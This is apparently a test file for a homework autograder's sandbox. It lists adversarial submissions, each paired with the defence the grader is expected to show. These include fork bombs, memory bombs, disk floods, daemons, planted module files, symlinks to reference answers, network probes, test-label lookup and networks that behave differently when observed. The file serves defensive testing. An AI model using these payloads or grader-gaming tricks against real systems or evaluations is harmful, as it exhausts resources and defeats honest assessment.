        "Net.forward returns an object that equals anything, converts to a zero array and answers every method",
        "5.1.1 scores 0 with a message; NetBN keeps its marks",
        only=("5.1.1", "5.3.1"), honest={"5.1.1": 0.0}, keeps=("5.3.1",), append=RIGGED,
        edits=(("        x = x.view(x.size(0), -1)\n        return self.classifier(x)\n\n\nclass NetBN",
                "        return _RiggedAnything()\n\n\nclass NetBN"),)),
    # ----- reading what is hidden ---------------------------------------------------------------------
    "read_reference_and_rubric": Attack(
        "loss_fn reads the reference solution, the reference answers, the rubric tests, the calibration, the "
        "reference classifier and the grader's .git from the grader's own install path, and imports solutions",
        "none of them is readable from the child: the report has no LEAK",
        honest={"5.1.2": 0.0}, keeps=("5.1.1", "5.3.1"), edits=probe_loss(READ_REFERENCE),
        feedback={"5.1.2": ("PROBE-DONE",)}),
    "read_test_labels": Attack(
        "loss_fn reads the CIFAR-10 file (HW2_CIFAR10) and the grader's cache of decoded arrays, and looks for "
        "labels among the child's inputs",
        "neither file is readable, nothing beside them is listed, and no labels are in in/",
        only=("5.1.2",), honest={"5.1.2": 0.0}, edits=probe_loss(READ_LABELS), feedback={"5.1.2": ("PROBE-DONE",)}),
    "symlink_to_reference": Attack(
        "submission.py is a symbolic link to the reference solution",
        "a link is not followed: every item says submission.py is a symbolic link",
        honest={n: 0.0 for n in QUICK}, standalone="", feedback={n: ("symbolic link",) for n in QUICK}),
    # ----- resources ----------------------------------------------------------------------------------
    "loop_at_import": Attack(
        "an infinite loop at import that swallows every exception (the grader's alarm too)",
        "each item says the import timed out and for how long; the run ends at its wall-clock limit",
        honest={n: 0.0 for n in QUICK}, limits={"wall_s": 8},
        append="\nwhile True:\n    try:\n        while True:\n            pass\n    except BaseException:\n        pass\n",
        feedback={n: ("timed out", "stopped after", "limit 8 s") for n in QUICK}),
    "loop_in_forward": Attack(
        "Net.forward loops forever (swallowing the alarm)",
        "Net's architecture item times out; a fresh child grades loss and NetBN in full",
        only=("5.1.1", "5.1.2", "5.3.1"), honest={"5.1.1": 0.0}, keeps=("5.1.2", "5.3.1"), limits={"wall_s": 8},
        edits=((NET_FORWARD,
                "        while True:\n            try:\n                while True:\n                    pass\n            except BaseException:\n                pass\n\n\nclass NetBN"),),
        feedback={"5.1.1": ("timed out", "stopped after")}),
    "memory_bomb_at_import": Attack(
        "allocates (and touches) memory without end at import",
        "every item says the submission ran out of memory",
        honest={n: 0.0 for n in QUICK}, limits={"tree_memory_bytes": 2 << 30},
        append="\n_hog = []\nwhile True:\n    _hog.append(b'x' * (64 << 20))\n",
        feedback={n: ("ran out of memory",) for n in QUICK}),
    "memory_bomb_in_forward": Attack(
        "Net.forward asks torch for a tensor of 4 TiB", "Net's items say it ran out of memory; the rest full",
        honest={"5.1.1": 0.0, "5.2.1": 0.0}, keeps=("5.1.2", "5.3.1"),
        edits=((NET_FORWARD,
                "        return torch.ones(1 << 40, device=x.device)\n\n\nclass NetBN"),),
        feedback={"5.1.1": ("ran out of memory",)}),
    "fork_bomb": Attack(
        "forks without end at import (every process keeps forking)",
        "the process limit holds, the run ends at its wall-clock limit, and no process is left",
        honest={n: 0.0 for n in QUICK}, limits={"wall_s": 8},
        append="\nimport os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n",
        feedback={n: ("timed out",) for n in QUICK}),
    "print_flood": Attack(
        "the correct base, printing 300,000 lines and one line of 50 MB at import",
        "output is capped; grading is unaffected (full marks)",
        keeps=QUICK, append="\nfor _i in range(300_000):\n    print('PASSED', _i)\nprint('x' * (50 << 20))\n"),
    "raw_fd_flood": Attack(
        "the correct base, writing 48 MiB straight to file descriptor 1 at import (past print's cap)",
        "stdout is a pipe the grader drains and caps: no file fills, grading is unaffected (full marks)",
        keeps=QUICK, limits={"file_bytes": 16 << 20},
        append="\nimport os\nfor _i in range(48):\n    os.write(1, b'y' * (1 << 20))\n"),
    "disk_fill": Attack(
        "the correct base, writing 24 files of 8 MiB each (each under the file-size limit) into its working "
        "folder at import",
        "the disk quota (64 MiB here) stops it and the items say why",
        honest={n: 0.0 for n in QUICK}, limits={"disk_bytes": 64 << 20},
        append="\nimport os\nfor _i in range(24):\n    with open(f'fill{_i}', 'wb') as _f:\n"
               "        _f.write(os.urandom(8 << 20))\nimport time\ntime.sleep(5)\n",
        feedback={n: ("disk quota",) for n in QUICK}),
    "file_flood": Attack(
        "the correct base, creating 30,000 empty files in its working folder at import",
        "the quota on files stops it and the items say why",
        honest={n: 0.0 for n in QUICK},
        append="\nimport os\nos.makedirs('many', exist_ok=True)\nfor _i in range(30_000):\n"
               "    open(f'many/{_i}', 'w').close()\nimport time\ntime.sleep(5)\n",
        feedback={n: ("disk quota",) for n in QUICK}),
    "daemons": Attack(
        "the correct base; at import starts `sleep 300` in a new session and a double-forked setsid daemon that "
        "later writes a sentinel and the result file",
        "full marks, and when the run ends no process of it is left and nothing was written",
        keeps=QUICK, append=DAEMONS),
    "network": Attack(
        "loss_fn connects to a port on the grading machine's localhost, to public DNS and HTTPS servers, to an "
        "abstract unix socket of the host, and resolves a name",
        "no connection is made (the test's listeners receive nothing) and the report has no LEAK",
        only=("5.1.2",), honest={"5.1.2": 0.0}, edits=probe_loss(NETWORK), feedback={"5.1.2": ("PROBE-DONE",)}),
    # ----- behaving differently when observed ---------------------------------------------------------
    **{f"two_faced_{how}": Attack(
        f"Net is the handout's network only while its operations are recorded (detected by {how.replace('_', ' ')}); "
        f"otherwise the ReLU after fc 120 is missing",
        "5.1.1 does not grade the network it was shown: at most the one-defect mark, and here 0 with a message",
        only=("5.1.1",), honest={"5.1.1": 1.5}, prelude=TRACE_DETECT[how], edits=(TWO_FACED_FORWARD,),
        feedback={"5.1.1": ("not depend on being observed",)}) for how in TRACE_DETECT},
    # ----- training -----------------------------------------------------------------------------------
    "shipped_weights_in_forward": Attack(
        "NetBN whose running statistics never update (honestly below the pass mark) ships trained weights and "
        "copies them into itself in every training-mode forward, after the grader recorded fresh weights",
        "5.3.2 fails and says that the parameters changed outside the optimiser",
        only=("5.3.2",), honest={"5.3.2": 0.0}, training=True,
        edits=(("nn.Linear(16 * 5 * 5, 120), nn.BatchNorm1d(120), nn.ReLU(),",
                "nn.Linear(16 * 5 * 5, 120), nn.BatchNorm1d(120, momentum=0.0), nn.ReLU(),"),),
        append=SHIPPED_WEIGHTS_NETBN, files={"pretrained.npz": "@@PRETRAINED@@"},
        feedback={"5.3.2": ("changed outside the grader's optimiser",)}),
    "forge_training_result": Attack(
        "ships trained weights; at import writes the result of the phase asked for itself, in the child's own "
        "format, and calls os._exit(0): a training run (fresh weights at the start, the shipped ones after each "
        "epoch) or the starting network the grader trains itself (the shipped weights and their outputs)",
        "5.3.2 must not pass: nothing was trained (the grader trains the reference itself, and the starting "
        "weights are found to be trained already)",
        only=("5.3.2",), honest={"5.3.2": 0.0}, training=True, append=FORGE_TRAINING,
        files={"pretrained.npz": "@@PRETRAINED@@"},
        feedback={"5.3.2": ("does not start from a fresh random draw", "of the run's starting network are not")}),
    "pretrained_start": Attack(
        "the correct base, whose NetBN() loads shipped trained weights in its constructor",
        "5.3.2 must not pass: the run does not start from an initialisation",
        only=("5.3.2",), honest={"5.3.2": 0.0}, training=True, files={"pretrained.npz": "@@PRETRAINED@@"},
        append=PRETRAINED_START,
        feedback={"5.3.2": ("does not start from a fresh random draw", "the same weights for construction seeds")}),
    "pretrained_net_start": Attack(
        "the correct base, whose Net() holds shipped trained layers with the last one zeroed (it starts at "
        "exactly 10%, so an accuracy test before training sees nothing)",
        "5.1.3 must not pass: the starting weights are the same for every construction seed",
        only=("5.1.3",), honest={"5.1.3": 0.0}, training=True, files={"pretrained.npz": "@@PRETRAINED@@"},
        append=pretrained_net(0.0),
        feedback={"5.1.3": ("does not start from a fresh random draw", "the same weights for construction seeds")}),
    "pretrained_net_start_with_noise": Attack(
        "as pretrained_net_start, plus N(0, 0.01^2) noise drawn from torch's seeded generator, so that every "
        "construction seed gives different weights",
        "5.1.3 must not pass: most of the weights' variance is shared by every construction seed",
        only=("5.1.3",), honest={"5.1.3": 0.0}, training=True, files={"pretrained.npz": "@@PRETRAINED@@"},
        append=pretrained_net(0.01),
        feedback={"5.1.3": ("does not start from a fresh random draw", "is the same for every construction seed")}),
    "pretrained_init_weights": Attack(
        "init_weights loads shipped trained layers plus per-seed noise and zeroes the last one (5.2.1 measures "
        "its variance and fails it; 5.2.2's run would start at 10% and learn fast)",
        "5.2.2 must not pass: the run does not start from a random draw of init_weights' initialisation",
        only=("5.2.2",), honest={"5.2.2": 0.0}, training=True, files={"pretrained.npz": "@@PRETRAINED@@"},
        append=INIT_FROM_SHIPPED,
        feedback={"5.2.2": ("does not start from a fresh random draw", "is the same for every construction seed")}),
    "cut_graph_trained_in_its_place": Attack(
        "Net.forward detaches after the convs: the handout's logits, so that the grader would train its "
        "reference network, whose convs learn, in place of the student's, whose convs never do",
        "5.1.3 earns nothing automatically: the grader does not train it as the reference, and says which "
        "layers receive no gradient",
        only=("5.1.3",), honest={"5.1.3": 0.0}, training=True,
        edits=((NET_FORWARD, "        x = self.features(x).detach()\n        x = x.view(x.size(0), -1)\n"
                             "        return self.classifier(x)\n\n\nclass NetBN"),),
        feedback={"5.1.3": ("conv 1, conv 2 receive no gradient", "did not train this network itself")}),
    "lookup_test_labels": Attack(
        "ships the test images and labels; a network that does not learn (its architecture does not map onto "
        "the reference, so the grader evaluates it in the child) answers eval-mode batches by nearest-neighbour "
        "lookup, mirror-image and dither notwithstanding",
        "5.1.3 must not pass: the network learns nothing (its training is the submission's own, so its "
        "accuracy goes to the instructor for review and earns nothing automatically)",
        only=("5.1.3",), honest={"5.1.3": 0.0}, training=True,
        standalone=r'''
import numpy as np
import torch
import torch.nn as nn
from pathlib import Path

def _key(x):  # (N, 3, 32, 32) in [-1, 1] -> (N, 192): 4x4 means shrug off the dither
    return nn.functional.avg_pool2d(x, 4).flatten(1)


_z = np.load(Path(__file__).with_name("testset.npz"))
_X = _key(torch.from_numpy(_z["x"].astype(np.float32) / 127.5 - 1))
_Y = torch.from_numpy(_z["y"])


class Net(nn.Module):
    def __init__(self):
        super().__init__()
        self.fc = nn.Linear(3 * 32 * 32, 10)

    def forward(self, x):
        if self.training or x.shape[0] < 100:
            return self.fc(x.flatten(1)) * 0
        d = torch.minimum(torch.cdist(_key(x), _X), torch.cdist(_key(x.flip(-1)), _X))
        return nn.functional.one_hot(_Y[d.argmin(1)], 10).float() * 10 + self.fc.bias * 0
''', files={"testset.npz": "@@TESTSET@@"},
        feedback={"5.1.3": ("for the instructor to confirm", "map onto the reference")}),
    # ----- the grader's own edges (issue 10) -----------------------------------------------------------
    "result_json_too_deep": Attack(
        "defines nothing; at import writes a result.json nested 200,000 levels deep and exits quietly",
        "the parent refuses the nesting before parsing it (no RecursionError out of the grader): a clear 0",
        only=("5.1.2",), honest={"5.1.2": 0.0}, standalone=DEEP_RESULT),
    "scratch_abuse": Attack(
        "the correct base; at import reserves 4 GiB on stdout and on a working file with fallocate (keeping their "
        "size 0) and makes a folder 1,200 levels deep",
        "the pipe and the size-limited tmpfs refuse the reservations, the deep folder goes with the tmpfs, and "
        "grading is unaffected",
        only=("5.1.2", "5.3.1"), keeps=("5.1.2", "5.3.1"), append=SCRATCH_ABUSE),
    "planted_modules": Attack(
        "the correct base, which at import writes torch.py, numpy.py, json.py and sitecustomize.py into its working "
        "folder, and whose Net.forward kills its child so that a second child grades the rest",
        "the second child has a fresh working folder, never first on sys.path: loss and NetBN keep full marks",
        only=("5.1.1", "5.1.2", "5.3.1"), honest={"5.1.1": 0.0}, keeps=("5.1.2", "5.3.1"), append=PLANT_MODULES,
        edits=((NET_FORWARD, "        import os\n        os._exit(0)\n\n\nclass NetBN"),)),
    "torch_adam_under_another_name": Attack(
        "Adam is torch's Adam, its file executed again under the module name torch.optim.my_optimizers",
        "the code objects' file is torch's: 5.4.1 scores 0 and names it",
        only=("5.4.1",), honest={"5.4.1": 0.0}, append=ADAM_FROM_FILE, feedback={"5.4.1": ("adam.py",)},
        edits=(("class Adam(torch.optim.Optimizer):", "class _Unused(torch.optim.Optimizer):"),)),
    "torch_adam_recompiled": Attack(
        "Adam is torch's Adam, its source read with inspect and compiled under the file name handwritten_adam.py",
        "reading torch's optimiser source counts as using it (and its bytecode is torch's): 5.4.1 scores 0",
        only=("5.4.1",), honest={"5.4.1": 0.0}, append=ADAM_FROM_SOURCE, feedback={"5.4.1": ("read adam.py",)},
        edits=(("class Adam(torch.optim.Optimizer):", "class _Unused(torch.optim.Optimizer):"),)),
    "torch_adam_in_a_thread": Attack(
        "Adam hands every step to a thread started at import, which steps a torch.optim.Adam",
        "the threads that were already running are watched too: 5.4.1 scores 0",
        only=("5.4.1",), honest={"5.4.1": 0.0}, append=ADAM_IN_THREAD, feedback={"5.4.1": ("another thread",)},
        edits=(("class Adam(torch.optim.Optimizer):", "class _Unused(torch.optim.Optimizer):"),)),
    "bptt_by_autograd": Attack(
        "bptt_gradients computes the gradients with torch's autograd, its backward() reached through getattr",
        "autograd is seen at run time: 1.1 and 1.2 go to the instructor for review with 0, saying why",
        only=("1.1", "1.2"), honest={"1.1": 0.0, "1.2": 0.0}, append=BPTT_AUTOGRAD,
        feedback={n: ("automatic differentiation", "run_backward", "for the instructor to confirm") for n in ("1.1", "1.2")}),
    "imperceptible_augmentation": Attack(
        "augment adds noise of 0.1% of the input range: deterministic, seeded, float32, input untouched",
        "no image is recognisably augmented: 5.4.3 scores 0 and says so",
        only=("5.4.3",), honest={"5.4.3": 0.0}, append=NOISE_AUGMENT,
        edits=(("def augment(images, generator):", "def _unused_augment(images, generator):"),),
        feedback={"5.4.3": ("not recognisably augmented",)}),
    "symlink_answers": Attack(
        "answers.toml is a symbolic link to the reference answers (solutions/reference/answers.toml)",
        "the theory items must not read the reference through the link",
        only=("2.1", "3.1", "4.1", "4.2", "4.3"), honest={n: 0.0 for n in ("2.1", "3.1", "4.1", "4.2", "4.3")},
        files={"answers.toml": "@@LINK:solutions/reference/answers.toml@@"}),
}


def make_deep_folder(top: Path, levels: int = 1200, name: str = "d" * 100) -> None:
    """`levels` folders inside each other under `top`, made by descriptor (the path is longer than PATH_MAX)."""
    import os

    here = os.open(top, os.O_RDONLY)
    for _ in range(levels):
        os.mkdir(name, dir_fd=here)
        deeper = os.open(name, os.O_RDONLY, dir_fd=here)
        os.close(here)
        here = deeper
    os.close(here)


def build(name: str, folder: Path, **values: str) -> Path:
    """Write attack `name` into folder/<name>/ with its placeholders filled from `values` (SENTINEL, TOKEN,
    DATA, CACHE, PORT, ABSTRACT, OUTDIR, PRETRAINED and TESTSET: file paths to copy; LINK targets are made
    relative to the grader's root) and return that folder."""
    import shutil

    from grader.sandbox.bwrap import grader_root

    attack = ATTACKS[name]
    out = folder / name
    out.mkdir(parents=True, exist_ok=True)

    def fill(text: str) -> str:
        for key, value in values.items():
            text = text.replace(f"@@{key}@@", str(value))
        return text

    if name == "symlink_to_reference":
        (out / "submission.py").symlink_to(grader_root() / "solutions" / "reference" / "submission.py")
    else:
        if attack.standalone is not None:
            source = attack.standalone
        else:
            source = BASE.read_text()
            for old, new in attack.edits:
                assert source.count(old) == 1, f"{name}: edit target occurs {source.count(old)} times"
                source = source.replace(old, new)
            if attack.prelude:
                marker = "import torch.nn.functional as F\n"
                source = source.replace(marker, marker + "\n" + attack.prelude, 1)
            source += attack.append
        (out / "submission.py").write_text(fill(source))
    for file_name, content in attack.files.items():
        if content.startswith("@@LINK:"):
            (out / file_name).symlink_to(grader_root() / content[len("@@LINK:"):-2])
        elif content.startswith("@@") and content.endswith("@@"):
            shutil.copy(values[content.strip("@")], out / file_name)
        else:
            (out / file_name).write_text(fill(content))
    return out
